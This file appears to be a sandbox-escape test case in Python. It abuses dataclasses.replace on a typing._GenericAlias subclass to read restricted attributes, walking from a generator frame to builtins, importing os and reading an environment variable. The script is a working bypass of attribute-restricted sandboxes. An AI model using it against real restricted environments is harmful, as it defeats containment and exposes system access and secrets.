# technique: dataclasses.replace on a user subclass of typing._GenericAlias: a Field named gi_frame read through __origin__ forwarding (unchecked getattr)
# expect: any
import typing, dataclasses, json
GA = type(typing.List[int])
@dataclasses.dataclass
class D:
    x: int = 0
got = []
class G(GA, _root=True):
    __dataclass_fields__ = {}
    def __init__(self, *a, **kw):
        if kw and not a:
            got.append(kw)
        else:
            GA.__init__(self, *a, name='x')
def uget(obj, name):
    F = D.__dataclass_fields__['x']
    F.name = name
    G.__dataclass_fields__.clear()
    G.__dataclass_fields__[name] = F
    dataclasses.replace(G(obj, (int,)))
    return got.pop()[name]
gen = json.JSONEncoder().iterencode({'a': 1})
fr = uget(gen, 'gi_frame')
b = uget(fr, 'f_builtins')
print(type(b), len(b), 'open' in b, b['__import__'])
g = uget(fr, 'f_globals')
print(sorted(g)[:20])
os = b['__import__']('os')
print(os)
print(os.environ.get('HOME'))
import random
print(uget(random.Random, '_os') if 0 else '')
